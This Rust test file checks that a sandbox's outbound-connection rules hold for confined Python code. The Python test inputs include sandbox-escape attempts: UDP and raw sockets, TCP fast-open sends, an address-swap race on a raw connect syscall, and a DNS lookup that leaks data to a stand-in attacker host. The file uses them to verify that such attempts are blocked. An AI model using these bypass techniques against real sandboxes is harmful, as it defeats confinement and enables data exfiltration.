//! Connections: anywhere, to a list, nowhere.

use std::io::Write as _;
use std::net::{TcpListener, UdpSocket};

use crate::prelude::*;

/// A listener that greets.
fn greeter() -> (String, u16) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for connection in listener.incoming() {
            let _ = connection.unwrap().write_all(b"hello");
        }
    });
    (address.to_string(), address.port())
}

fn only(targets: &[&str]) -> ConnectRule {
    ConnectRule::Only(
        targets
            .iter()
            .map(|target| target.parse().unwrap())
            .collect(),
    )
}

const CONNECT: &str = r"
def hear(host, port):
    s = socket.create_connection((host, port), 20)
    assert s.recv(5) == b'hello'
";

#[tokio::test]
async fn standard_connects_anywhere() {
    let (address, port) = greeter();
    let world = World::new(ConfineLevel::Standard);
    let code = format!(
        "{CONNECT}\nattempt(lambda: hear('127.0.0.1', {port}))\ns = socket.socket(); s.setblocking(True); s.connect(('127.0.0.1', {port})); print(s.recv(5))\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); attempt(lambda: u.sendto(b'x', ('127.0.0.1', {port})))"
    );
    let ran = world.python(&code).await;
    assert_eq!(ran.stdout, "ok\nb'hello'\nok\n", "{ran:?}");
    assert!(
        ran.saw_address(ObservedAction::Connect, &address, true),
        "{ran:?}"
    );
}

#[tokio::test]
async fn a_list_is_kept_to() {
    let (allowed, port) = greeter();
    let (refused, other) = greeter();
    for level in ENFORCED {
        let mut world = World::new(level);
        world.permissions.connect = only(&[&allowed]);
        let code = format!(
            "{CONNECT}\nattempt(lambda: hear('127.0.0.1', {port}))\nattempt(lambda: hear('127.0.0.1', {other}))\nattempt(lambda: hear('::ffff:127.0.0.1', {other}))"
        );
        let ran = world.python(&code).await;
        assert_eq!(ran.stdout, "ok\nEACCES\nEACCES\n", "{level}: {ran:?}");
        assert!(
            ran.saw_address(ObservedAction::Connect, &refused, false),
            "{level}: {ran:?}"
        );
    }
}

#[tokio::test]
async fn a_refused_connection_says_so_like_any_other() {
    let closed = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap();
    let world = World::new(ConfineLevel::Standard);
    let code = format!(
        "s = socket.socket()\nattempt(lambda: s.connect(('127.0.0.1', {})))\ns = socket.socket(); s.setblocking(False)\nprint(errno.errorcode[s.connect_ex(('127.0.0.1', {}))])",
        closed.port(),
        closed.port()
    );
    let ran = world.python(&code).await;
    let lines: Vec<&str> = ran.stdout.lines().collect();
    assert_eq!(lines.first(), Some(&"ECONNREFUSED"), "{ran:?}");
    assert!(
        ["EINPROGRESS", "ECONNREFUSED"].contains(&lines[1]),
        "{ran:?}"
    );
}

#[tokio::test]
async fn nowhere_is_nowhere() {
    let (_, port) = greeter();
    for level in ENFORCED {
        let mut world = World::new(level);
        world.permissions.connect = only(&[]);
        let code = format!(
            "{CONNECT}\nattempt(lambda: hear('127.0.0.1', {port}))\nattempt(lambda: socket.socket(socket.AF_INET6))\nattempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))"
        );
        let ran = world.python(&code).await;
        assert_eq!(ran.stdout, "EACCES\nEACCES\nEACCES\n", "{level}: {ran:?}");
    }
}

/// Datagrams, raw packets, other protocols and sends that connect go past `connect`.
#[tokio::test]
async fn a_list_leaves_no_other_way_out() {
    let (allowed, _) = greeter();
    let receiver = UdpSocket::bind("127.0.0.1:0").unwrap();
    receiver.set_nonblocking(true).unwrap();
    let (_, other) = greeter();
    let port = receiver.local_addr().unwrap().port();
    for level in ENFORCED {
        let mut world = World::new(level);
        world.permissions.connect = only(&[&allowed, "example.com:443"]);
        let code = format!(
            r"
def datagram(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b'x', ('127.0.0.1', port))
attempt(lambda: datagram({port}), 'datagram ')
attempt(lambda: datagram(53), 'DNS ')
attempt(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM), 'datagram ')
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1), 'raw ')
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132), 'SCTP ')
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132), 'SCTP ')
s = socket.socket()
attempt(lambda: s.sendto(b'x', 0x20000000, ('127.0.0.1', {other})), 'fast open ')
attempt(lambda: s.sendmsg([b'x'], [], 0x20000000, ('127.0.0.1', {other})), 'fast open ')
s.setsockopt(socket.IPPROTO_TCP, 30, 1)
attempt(lambda: s.connect(('127.0.0.1', {other})), 'fast open ')
"
        );
        let ran = world.python(&code).await;
        assert_eq!(ran.stdout.lines().count(), 9, "{level}: {ran:?}");
        for line in ran.stdout.lines() {
            assert!(
                line.ends_with("EACCES") || line.ends_with("ENOTSUP"),
                "{level}: {line}"
            );
        }
        let mut buffer = [0; 8];
        assert!(receiver.recv(&mut buffer).is_err(), "{level}");
    }
}

/// Names on the list are resolved, and no others.
#[tokio::test]
async fn names_on_the_list_can_be_resolved() {
    let (_, port) = greeter();
    let target = format!("localhost:{port}");
    let mut world = World::new(ConfineLevel::Standard);
    world.permissions.connect = only(&[&target]);
    // A question to a name server that does not exist: whichever is meant, ours answers.
    let code = format!(
        r"
def ask(name):
    s = socket.socket()
    s.connect(('192.0.2.1', 53))
    q = struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0\0\x01\0\x01'
    s.sendall(struct.pack('>H', len(q)) + q)
    n = struct.unpack('>H', s.recv(2))[0]
    a = s.recv(n)
    return a[3] & 15, socket.inet_ntoa(a[-4:]) if a[7] else None
{CONNECT}
attempt(lambda: hear('127.0.0.1', {port}), 'before ')
print(ask('localhost'))
attempt(lambda: hear('127.0.0.1', {port}), 'after ')
print(ask('secret-data.attacker.example'))
print(os.environ['RES_OPTIONS'])
"
    );
    let ran = world.python(&code).await;
    assert_eq!(
        ran.stdout, "before EACCES\n(0, '127.0.0.1')\nafter ok\n(3, None)\nuse-vc\n",
        "{ran:?}"
    );
}

/// A thread that swaps the address between check and use connects to nothing else.
#[tokio::test]
async fn swapping_an_address_does_not_help() {
    let (allowed, port) = greeter();
    let forbidden = TcpListener::bind("127.0.0.1:0").unwrap();
    forbidden.set_nonblocking(true).unwrap();
    let other = forbidden.local_addr().unwrap().port();
    let mut world = World::new(ConfineLevel::Standard);
    world.permissions.connect = only(&[&allowed]);
    let code = format!(
        r"
import threading
def address(port): return struct.pack('=H', 2) + struct.pack('>H', port) + socket.inet_aton('127.0.0.1') + bytes(8)
good, bad = address({port}), address({other})
buffer = ctypes.create_string_buffer(good, 16)
stop = False
def swap():
    while not stop:
        ctypes.memmove(buffer, good, 16)
        ctypes.memmove(buffer, bad, 16)
thread = threading.Thread(target=swap)
thread.start()
count = 0
for _ in range(300):
    s = socket.socket()
    try:
        call(42, s.fileno(), buffer, 16)
        count += 1
    except OSError: pass
    s.close()
stop = True
thread.join()
print(count > 0)
"
    );
    let ran = world.python(&code).await;
    assert_eq!(ran.line(), "True", "{ran:?}");
    assert!(forbidden.accept().is_err());
}

#[tokio::test]
async fn only_strict_takes_no_port() {
    for (level, expect) in [
        (ConfineLevel::Standard, "ok"),
        (ConfineLevel::Strict, "EACCES"),
    ] {
        let mut world = World::new(level);
        world.permissions.connect = only(&["127.0.0.1"]);
        let ran = world
            .python("s = socket.socket()\nattempt(lambda: s.bind(('127.0.0.1', 0)))")
            .await;
        assert_eq!(ran.line(), expect, "{level}: {ran:?}");
    }
}
